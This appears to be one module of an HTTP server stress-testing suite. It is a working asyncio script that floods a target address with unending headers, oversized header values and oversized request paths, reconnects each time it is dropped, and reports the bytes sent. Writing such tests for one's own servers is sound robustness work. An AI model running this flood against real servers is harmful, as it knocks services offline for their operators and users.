"""One address sends headers without end: lines, one line, one address."""

import asyncio
from contextlib import suppress

from attackers import SOURCES, raw

BEGINNINGS = (
    (b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"x: y\r\n" * 10_000),
    (b"GET / HTTP/1.1\r\nHost: localhost\r\nx: ", b"y" * 65_536),
    (b"GET /", b"y" * 65_536),
)
_MOST_BYTES = 1_000_000_000


async def attack(address: str) -> None:
    """Until it is cancelled."""
    sent = [0]
    async with asyncio.TaskGroup() as group:
        group.create_task(_tell(sent))
        for first, more in BEGINNINGS:
            group.create_task(_send(address, first, more, sent))


async def _tell(sent: list[int]) -> None:
    while True:
        await asyncio.sleep(5)
        print(f"  {sent[0] / 1e6:.0f} MB taken", flush=True)


async def _send(address: str, first: bytes, more: bytes, sent: list[int]) -> None:
    """Comes back as soon as it is thrown out."""
    while sent[0] < _MOST_BYTES:
        with suppress(OSError):
            _, writer = await raw(address, SOURCES[0])
            writer.write(first)
            while sent[0] < _MOST_BYTES:
                writer.write(more)
                await writer.drain()
                sent[0] += len(more)
        await asyncio.sleep(0.01)
